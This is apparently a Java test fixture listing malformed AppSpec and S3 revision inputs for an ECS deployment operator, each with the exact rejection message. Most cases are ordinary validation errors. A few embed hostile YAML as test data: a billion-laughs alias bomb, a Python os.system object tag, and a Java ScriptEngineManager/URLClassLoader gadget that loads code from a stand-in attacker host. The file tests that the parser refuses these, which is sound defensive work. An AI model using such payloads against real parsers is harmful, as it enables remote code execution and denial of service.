package io.ecsdeploy.operator.e2e;

import io.ecsdeploy.operator.codedeploy.ErrorCode;
import io.ecsdeploy.operator.testsupport.BadInputReport;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;

/**
 * The bad-input catalogue's revisions: AppSpecs (inline, or in S3 when only bytes can carry them)
 * and S3 revisions, each with the error the deployment fails with, exactly as {@code kubectl get
 * ecsd -o yaml} shows it in {@code status.errorInformation}. Placeholders in contents and messages
 * are filled in by {@link BadInputE2E} from the scenario: {@code {td}} the task definition, {@code
 * {bucket}} the revisions' bucket, {@code {v1}} and {@code {v2}} the versions of {@code
 * web/appspec.yaml} and {@code {etag1}} and {@code {etag2}} their ETags, {@code {sha2}} the SHA-256
 * of the current one.
 */
final class BadRevisions {
  private BadRevisions() {}

  /** Where the revision comes from. */
  enum Source {
    /** spec.revision.appSpecContent.content */
    INLINE,
    /** An object of its own in the revisions' bucket, read through spec.revision.s3Location. */
    S3_OBJECT,
    /** spec.revision.s3Location as given in {@link Case#s3Location}, on the bucket's objects. */
    S3_LOCATION
  }

  /**
   * One case.
   *
   * @param kind which part of the catalogue it belongs to
   * @param name what is wrong, also the deployment's name
   * @param source where the revision comes from
   * @param content the AppSpec's bytes (INLINE, S3_OBJECT)
   * @param s3Location bucket, key, version, eTag, sha256 (S3_LOCATION; null for unset)
   * @param code the error code the deployment fails with
   * @param message the error message, exactly
   */
  record Case(
      BadInputReport.Kind kind,
      String name,
      Source source,
      byte[] content,
      String[] s3Location,
      ErrorCode code,
      String message) {}

  static final String VALID =
      """
      version: 0.0
      Resources:
        - TargetService:
            Type: AWS::ECS::Service
            Properties:
              TaskDefinition: "{td}"
              LoadBalancerInfo:
                ContainerName: web
                ContainerPort: 80
      """;

  private static final String PROPS = "Resources[0].TargetService.Properties";
  private static final String PORT = PROPS + ".LoadBalancerInfo.ContainerPort";
  private static final String AWSVPC = PROPS + ".NetworkConfiguration.AwsvpcConfiguration";
  private static final String NOT_AN_ECS_HOOK =
      ": is not an ECS hook; use BeforeInstall, AfterInstall, AfterAllowTestTraffic,"
          + " BeforeAllowTraffic or AfterAllowTraffic";
  private static final String ALIASES =
      ": YAML anchors and aliases are not supported in an AppSpec";

  static List<Case> all() {
    List<Case> cases = new ArrayList<>();
    cases.addAll(appSpecs());
    cases.addAll(s3Revisions());
    return cases;
  }

  /** AppSpecs the operator reads and refuses. */
  static List<Case> appSpecs() {
    List<Case> cases = new ArrayList<>();
    // YAML features an AppSpec never needs: aliases (and so alias bombs), merge keys, tags.
    cases.add(invalid("alias-bomb-billion-laughs", billionLaughs(), "line 1, column 4" + ALIASES));
    cases.add(
        invalid(
            "alias-bomb-in-flow-style",
            "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                + "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
                + VALID,
            "line 1, column 4" + ALIASES));
    cases.add(
        invalid(
            "alias-for-a-hook-function",
            VALID.replace("ContainerName: web", "ContainerName: &n web")
                + "Hooks:\n  - BeforeInstall: *n\n",
            "line 11, column 20" + ALIASES));
    cases.add(
        invalid(
            "merge-key",
            "defaults: &d {ContainerName: web}\n" + VALID.replace("ContainerName: web", "<<: *d"),
            "line 1, column 11" + ALIASES));
    cases.add(invalid("recursive-alias", "a: &a [*a]\n" + VALID, "line 1, column 4" + ALIASES));
    cases.add(
        invalid(
            "custom-tag-include",
            VALID.replace("\"{td}\"", "!include other.yaml"),
            "line 6, column 25: YAML tag 'include' is not supported in an AppSpec"));
    cases.add(
        invalid(
            "binary-tag",
            VALID.replace("\"{td}\"", "!!binary aGVsbG8="),
            "line 6, column 25: YAML tag 'tag:yaml.org,2002:binary' is not supported in an"
                + " AppSpec"));
    cases.add(
        invalid(
            "python-object-tag",
            VALID.replace("\"{td}\"", "!!python/object/apply:os.system [\"id\"]"),
            "line 6, column 25: YAML tag 'tag:yaml.org,2002:python/object/apply:os.system' is not"
                + " supported in an AppSpec"));
    cases.add(
        invalid(
            "java-gadget-tag",
            VALID.replace(
                "\"{td}\"",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                    + " [\"http://attacker.invalid/\"]]]]"),
            "line 6, column 25: YAML tag 'tag:yaml.org,2002:javax.script.ScriptEngineManager' is"
                + " not supported in an AppSpec"));

    // Deep nesting: capped while parsing, before any tree is built.
    cases.add(
        invalid(
            "deep-nesting-yaml-flow",
            VALID + "Extra: " + "[".repeat(200) + "]".repeat(200) + "\n",
            "(document): is not valid YAML: Document nesting depth (33) exceeds the maximum allowed"
                + " (32)"));
    cases.add(
        invalid(
            "deep-nesting-yaml-block",
            VALID + nestedBlocks(40),
            "(document): is not valid YAML: Document nesting depth (33) exceeds the maximum"
                + " allowed (32)"));
    cases.add(
        invalid(
            "deep-nesting-json-arrays",
            "{\"version\": " + "[".repeat(200) + "]".repeat(200) + "}",
            "(document): is not valid JSON: Document nesting depth (33) exceeds the maximum"
                + " allowed (32)"));
    cases.add(
        invalid(
            "deep-nesting-json-objects",
            "{\"a\": ".repeat(40) + "1" + "}".repeat(40),
            "(document): is not valid JSON: Document nesting depth (33) exceeds the maximum"
                + " allowed (32)"));

    // Size: the schema counts characters, the operator bytes.
    String multibyte = "# " + "é".repeat(40_000) + "\n" + VALID.replace("{td}", "web:1");
    cases.add(
        invalid(
            "over-64-kib-in-utf8-bytes",
            multibyte,
            "(document): is "
                + (multibyte.getBytes(StandardCharsets.UTF_8).length)
                + " bytes; the limit is 65536 bytes"));
    cases.add(
        invalid(
            "thousands-of-unknown-keys",
            VALID + unknownKeys(3_000),
            "Invalid AppSpec (3000 problems): "
                + java.util.stream.IntStream.range(0, 10)
                    .mapToObj(
                        i ->
                            "k"
                                + i
                                + ": is not a known key here; expected one of Hooks, Resources, version")
                    .collect(java.util.stream.Collectors.joining("; "))
                + "; and 2990 more"));

    // Duplicate keys: YAML readers disagree on which one wins.
    cases.add(
        invalid(
            "duplicate-top-level-key",
            VALID + "version: 0.0\n",
            "line 10, column 8: is not valid YAML: Duplicate field 'version'"));
    cases.add(
        invalid(
            "duplicate-container-port",
            VALID.replace("ContainerPort: 80", "ContainerPort: 80\n          ContainerPort: 8080"),
            "line 10, column 24: is not valid YAML: Duplicate field 'ContainerPort'"));
    cases.add(
        invalid(
            "duplicate-json-key",
            "{\"version\": \"0.0\", \"version\": \"0.0\"}",
            "line 1, column 29: is not valid JSON: Duplicate field 'version'"));
    cases.add(
        invalid(
            "key-differing-only-in-case",
            VALID.replace("ContainerPort: 80", "ContainerPort: 80\n          containerPort: 80"),
            PROPS
                + ".LoadBalancerInfo.containerPort: is not a known key here; expected one of"
                + " ContainerName, ContainerPort"));

    // Wrong types.
    cases.add(
        invalid(
            "version-as-a-mapping",
            VALID.replace("version: 0.0", "version: {major: 0}"),
            "version: must be 0.0, found a mapping"));
    cases.add(
        invalid(
            "resources-as-a-string",
            "version: 0.0\nResources: web\n",
            "Resources: must be a list with one TargetService, found 'web'"));
    cases.add(
        invalid(
            "target-service-as-a-list",
            "version: 0.0\nResources:\n  - TargetService: [web]\n",
            "Resources[0].TargetService: must be a mapping, found a list"));
    cases.add(
        invalid(
            "properties-as-a-list",
            "version: 0.0\nResources:\n  - TargetService:\n      Type: AWS::ECS::Service\n"
                + "      Properties: [web]\n",
            PROPS + ": must be a mapping, found a list"));
    cases.add(
        invalid(
            "port-as-a-word",
            VALID.replace("ContainerPort: 80", "ContainerPort: http"),
            PORT + ": must be a whole number in 1..65535, found 'http'"));
    cases.add(
        invalid(
            "port-as-a-fraction",
            VALID.replace("ContainerPort: 80", "ContainerPort: 80.5"),
            PORT + ": must be a whole number in 1..65535, found 80.5"));
    cases.add(
        invalid(
            "port-as-a-boolean",
            VALID.replace("ContainerPort: 80", "ContainerPort: true"),
            PORT + ": must be a whole number in 1..65535, found true"));
    cases.add(
        invalid(
            "container-name-as-a-number",
            VALID.replace("ContainerName: web", "ContainerName: 8080"),
            PROPS + ".LoadBalancerInfo.ContainerName: must be a string, found 8080"));
    cases.add(
        invalid(
            "task-definition-missing-its-value",
            VALID.replace("TaskDefinition: \"{td}\"", "TaskDefinition:"),
            PROPS + ".TaskDefinition: is required"));
    cases.add(
        invalid(
            "subnets-as-a-string",
            network("Subnets: subnet-0123456789abcdef0"),
            AWSVPC + ".Subnets: must be a list of strings, found 'subnet-0123456789abcdef0'"));
    cases.add(
        invalid(
            "assign-public-ip-as-a-boolean",
            network("Subnets: [subnet-a]\n            AssignPublicIp: true"),
            AWSVPC + ".AssignPublicIp: must be ENABLED or DISABLED, found true"));
    cases.add(
        invalid(
            "capacity-provider-weight-as-a-word",
            VALID
                + "        CapacityProviderStrategy:\n"
                + "          - {CapacityProvider: FARGATE, Weight: heavy}\n",
            PROPS
                + ".CapacityProviderStrategy[0].Weight: must be a whole number in 0..1000, found"
                + " 'heavy'"));
    cases.add(
        invalid(
            "hooks-as-a-mapping",
            VALID + "Hooks:\n  BeforeInstall: check\n",
            "Hooks: must be a list of single-key mappings such as '- BeforeInstall: MyFunction',"
                + " found a mapping"));
    cases.add(
        invalid(
            "hook-function-as-a-list",
            VALID + "Hooks:\n  - BeforeInstall: [check, verify]\n",
            "Hooks[0].BeforeInstall: must be a string, found a list"));

    // Text that is not UTF-8, or not text: only S3 can carry these bytes.
    cases.add(
        s3Invalid(
            "invalid-utf8-sequence",
            concat(bytes("version: 0.0\n# caf"), new byte[] {(byte) 0xC3, 0x28}, bytes("\n")),
            "(document): is not valid UTF-8 text"));
    cases.add(
        s3Invalid(
            "utf16-with-byte-order-mark",
            concat(
                new byte[] {(byte) 0xFF, (byte) 0xFE}, VALID.getBytes(StandardCharsets.UTF_16LE)),
            "(document): is not valid UTF-8 text"));
    cases.add(
        s3Invalid(
            "latin1-accent",
            ("# caf\u00e9\n" + VALID).getBytes(StandardCharsets.ISO_8859_1),
            "(document): is not valid UTF-8 text"));
    cases.add(
        s3Invalid(
            "overlong-utf8-slash",
            concat(bytes("version: 0.0\n# "), new byte[] {(byte) 0xC0, (byte) 0xAF}, bytes("\n")),
            "(document): is not valid UTF-8 text"));
    cases.add(
        s3Invalid(
            "nul-byte",
            concat(bytes("version: 0.0\n"), new byte[] {0}, bytes("\n")),
            "line 1, column 1: is not valid YAML: special characters are not allowed"));

    // Hooks ECS does not have.
    for (String hook :
        List.of("BeforeDeploy", "beforeInstall", "ApplicationStart", "AfterBlockTraffic")) {
      cases.add(
          invalid(
              "unknown-hook-" + hook.toLowerCase(java.util.Locale.ROOT),
              VALID + "Hooks:\n  - " + hook + ": check\n",
              "Hooks[0]." + hook + NOT_AN_ECS_HOOK));
    }
    cases.add(
        invalid(
            "same-hook-twice",
            VALID + "Hooks:\n  - BeforeAllowTraffic: a\n  - BeforeAllowTraffic: b\n",
            "Hooks[1].BeforeAllowTraffic: is given more than once (first at Hooks[0])"));
    cases.add(
        invalid(
            "hook-function-with-spaces",
            VALID + "Hooks:\n  - AfterInstall: run my checks\n",
            "Hooks[0].AfterInstall: must be a Lambda function name or ARN (no spaces, at most 170"
                + " characters), found 'run my checks'"));

    // Ports out of range.
    Map<String, String> ports = new java.util.LinkedHashMap<>();
    ports.put("port-zero", "0");
    ports.put("port-negative", "-1");
    ports.put("port-65536", "65536");
    ports.put("port-70000", "70000");
    ports.put("port-twenty-digits", "99999999999999999999");
    ports.forEach(
        (name, port) ->
            cases.add(
                invalid(
                    name,
                    VALID.replace("ContainerPort: 80", "ContainerPort: " + port),
                    PORT + ": must be in 1..65535, found " + port)));
    cases.add(
        rejected(
            "port-the-container-does-not-map",
            VALID.replace("ContainerPort: 80", "ContainerPort: 8080"),
            "the AppSpec's container port 8080 is not a port of container web in task definition"
                + " {td}, which maps 80"));

    // Valid AppSpecs that do not fit what is in ECS.
    cases.add(
        rejected(
            "task-definition-not-in-ecs",
            VALID.replace("{td}", "no-such-family:7"),
            "the AppSpec's task definition no-such-family:7 does not exist in ECS"));
    cases.add(
        rejected(
            "container-not-in-the-task-definition",
            VALID.replace("ContainerName: web", "ContainerName: api"),
            "the AppSpec's container api is not in task definition {td}, which has web"));

    // Documents of another kind, or no document.
    cases.add(
        invalid(
            "whitespace-only",
            " \n\t\n",
            "(document): is empty; expected an AppSpec" + " with version 0.0"));
    cases.add(
        invalid(
            "comments-only",
            "# an AppSpec\n",
            "(document): is empty; expected an AppSpec" + " with version 0.0"));
    cases.add(
        invalid(
            "a-list",
            "- version: 0.0\n",
            "(document): must be a mapping with version, Resources and Hooks, found a list"));
    cases.add(
        invalid(
            "version-1",
            VALID.replace("version: 0.0", "version: 1.0"),
            "version: must be 0.0, found 1.0"));
    cases.add(
        invalid(
            "lambda-appspec",
            VALID.replace("AWS::ECS::Service", "AWS::Lambda::Function"),
            "Resources[0].TargetService.Type: must be AWS::ECS::Service, found"
                + " 'AWS::Lambda::Function'"));
    cases.add(
        invalid(
            "ec2-appspec",
            "version: 0.0\nos: linux\nfiles:\n  - source: /\n    destination: /srv\n",
            "Invalid AppSpec (3 problems): os: is not a known key here; expected one of Hooks,"
                + " Resources, version; files: is not a known key here; expected one of Hooks,"
                + " Resources, version; Resources: is required: a list with one TargetService"));
    cases.add(
        invalid(
            "two-target-services",
            VALID + VALID.substring(VALID.indexOf("  - TargetService")),
            "Resources: must contain exactly one TargetService, found 2 (Resources[0],"
                + " Resources[1])"));
    cases.add(
        invalid(
            "two-yaml-documents",
            VALID + "---\n" + VALID,
            "line 11, column 1: a second YAML document; an AppSpec is a single document"));
    cases.add(
        invalid(
            "json-with-trailing-content",
            "{\"version\": \"0.0\"} {}",
            "line 1, column 20: unexpected content after the JSON object"));
    cases.add(
        invalid(
            "unclosed-flow-sequence",
            "version: [0.0\n",
            "line 1, column 14: is not valid YAML: while parsing a flow sequence: expected ',' or"
                + " ']', but got <stream end>"));
    cases.add(
        invalid(
            "tab-indentation",
            VALID.replace("      Type:", "\tType:"),
            "line 3, column 18: is not valid YAML: while scanning for the next token: found"
                + " character '\\t(TAB)' that cannot start any token. (Do not use \\t(TAB) for"
                + " indentation)"));
    cases.add(
        invalid(
            "ten-thousand-subnets",
            network("Subnets: [" + "s,".repeat(9_999) + "s]"),
            AWSVPC + ".Subnets: must have at most 16 entries, found 10000"));
    cases.add(
        invalid(
            "very-long-unknown-key",
            VALID + "K" + "x".repeat(1_000) + ": 1\n",
            "K"
                + "x".repeat(59)
                + "...: is not a known key here; expected one of Hooks, Resources, version"));
    cases.add(
        rejected(
            "very-long-task-definition",
            VALID.replace("{td}", "t".repeat(5_000)),
            "the AppSpec's task definition " + "t".repeat(5_000) + " does not exist in ECS"));
    return cases;
  }

  /** S3 revisions that cannot be read as given. */
  static List<Case> s3Revisions() {
    List<Case> cases = new ArrayList<>();
    String key = "web/appspec.yaml";
    cases.add(
        s3(
            "no-such-bucket",
            new String[] {"no-such-bucket-anywhere", key, null, null, null},
            ErrorCode.REVISION_MISSING,
            "s3://no-such-bucket-anywhere/web/appspec.yaml does not exist (NoSuchBucket)"));
    cases.add(
        s3(
            "no-such-key",
            new String[] {"{bucket}", "web/appspec.yml", null, null, null},
            ErrorCode.REVISION_MISSING,
            "s3://{bucket}/web/appspec.yml does not exist (NoSuchKey)"));
    cases.add(
        s3(
            "key-of-a-folder",
            new String[] {"{bucket}", "web/", null, null, null},
            ErrorCode.REVISION_MISSING,
            "s3://{bucket}/web/ does not exist (NoSuchKey)"));
    cases.add(
        s3(
            "no-such-version",
            new String[] {"{bucket}", key, "00000000-0000-0000-0000-000000000000", null, null},
            ErrorCode.REVISION_MISSING,
            "s3://{bucket}/web/appspec.yaml?versionId=00000000-0000-0000-0000-000000000000 does"
                + " not exist (NoSuchVersion)"));
    cases.add(
        s3(
            "version-of-another-key",
            new String[] {"{bucket}", "web/other.yaml", "{v1}", null, null},
            ErrorCode.REVISION_MISSING,
            "s3://{bucket}/web/other.yaml?versionId={v1} does not exist (NoSuchVersion)"));
    cases.add(
        s3(
            "malformed-version-id",
            new String[] {"{bucket}", key, "latest", null, null},
            ErrorCode.REVISION_MISSING,
            "s3://{bucket}/web/appspec.yaml?versionId=latest does not exist (NoSuchVersion)"));
    cases.add(
        s3(
            "etag-of-the-previous-version",
            new String[] {"{bucket}", key, null, "{etag1}", null},
            ErrorCode.INVALID_REVISION,
            "s3://{bucket}/web/appspec.yaml has ETag {etag2}, expected {etag1}"));
    cases.add(
        s3(
            "etag-of-another-object",
            new String[] {"{bucket}", key, "{v1}", "{etag2}", null},
            ErrorCode.INVALID_REVISION,
            "s3://{bucket}/web/appspec.yaml?versionId={v1} has ETag {etag1}, expected {etag2}"));
    String zeros = "0".repeat(64);
    cases.add(
        s3(
            "wrong-sha256",
            new String[] {"{bucket}", key, null, null, zeros},
            ErrorCode.INVALID_REVISION,
            "s3://{bucket}/web/appspec.yaml has SHA-256 {sha2}, expected " + zeros));
    cases.add(
        s3(
            "sha256-of-the-previous-version",
            new String[] {"{bucket}", key, null, null, "{sha1}"},
            ErrorCode.INVALID_REVISION,
            "s3://{bucket}/web/appspec.yaml has SHA-256 {sha2}, expected {sha1}"));
    cases.add(
        s3(
            "five-megabytes",
            new String[] {"{bucket}", "big/5mb.yaml", null, null, null},
            ErrorCode.INVALID_REVISION,
            "s3://{bucket}/big/5mb.yaml is 5242880 bytes, over the 65536-byte limit for a"
                + " revision"));
    cases.add(
        s3(
            "one-byte-over-the-limit",
            new String[] {"{bucket}", "big/64kib-plus-1.yaml", null, null, null},
            ErrorCode.INVALID_REVISION,
            "s3://{bucket}/big/64kib-plus-1.yaml is 65537 bytes, over the 65536-byte limit for a"
                + " revision"));
    cases.add(
        s3(
            "empty-object",
            new String[] {"{bucket}", "empty.yaml", null, null, null},
            ErrorCode.INVALID_REVISION,
            "Invalid AppSpec (1 problem): (document): is empty; expected an AppSpec with version"
                + " 0.0"));
    cases.add(
        s3(
            "zip-bundle-of-an-ec2-revision",
            new String[] {"{bucket}", "bundle.zip", null, null, null},
            ErrorCode.INVALID_REVISION,
            "Invalid AppSpec (1 problem): (document): is not valid UTF-8 text"));
    return cases;
  }

  private static Case invalid(String name, String content, String message) {
    String full =
        message.startsWith("Invalid AppSpec") ? message : "Invalid AppSpec (1 problem): " + message;
    return new Case(
        BadInputReport.Kind.APPSPEC,
        name,
        Source.INLINE,
        bytes(content),
        null,
        ErrorCode.INVALID_REVISION,
        full);
  }

  private static Case s3Invalid(String name, byte[] content, String message) {
    return new Case(
        BadInputReport.Kind.APPSPEC,
        name,
        Source.S3_OBJECT,
        content,
        null,
        ErrorCode.INVALID_REVISION,
        "Invalid AppSpec (1 problem): " + message);
  }

  private static Case rejected(String name, String content, String message) {
    return new Case(
        BadInputReport.Kind.APPSPEC,
        name,
        Source.INLINE,
        bytes(content),
        null,
        ErrorCode.INVALID_REVISION,
        message);
  }

  private static Case s3(String name, String[] location, ErrorCode code, String message) {
    return new Case(
        BadInputReport.Kind.S3_REVISION, name, Source.S3_LOCATION, null, location, code, message);
  }

  private static String network(String awsvpcBody) {
    return VALID
        + "        NetworkConfiguration:\n"
        + "          AwsvpcConfiguration:\n"
        + "            "
        + awsvpcBody
        + "\n";
  }

  static String billionLaughs() {
    StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for (char c = 'b'; c <= 'j'; c++) {
      char previous = (char) (c - 1);
      yaml.append(c).append(": &").append(c).append(" [");
      yaml.append(String.join(",", Collections.nCopies(9, "*" + previous)));
      yaml.append("]\n");
    }
    return yaml.toString();
  }

  private static String nestedBlocks(int depth) {
    StringBuilder yaml = new StringBuilder();
    for (int i = 0; i < depth; i++) {
      yaml.append("  ".repeat(i)).append("n").append(i).append(":\n");
    }
    yaml.append("  ".repeat(depth)).append("end: 1\n");
    return yaml.toString();
  }

  private static String unknownKeys(int count) {
    StringBuilder yaml = new StringBuilder();
    for (int i = 0; i < count; i++) {
      yaml.append("k").append(i).append(": 1\n");
    }
    return yaml.toString();
  }

  static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  static byte[] concat(byte[]... parts) {
    java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
    for (byte[] part : parts) {
      out.writeBytes(part);
    }
    return out.toByteArray();
  }
}
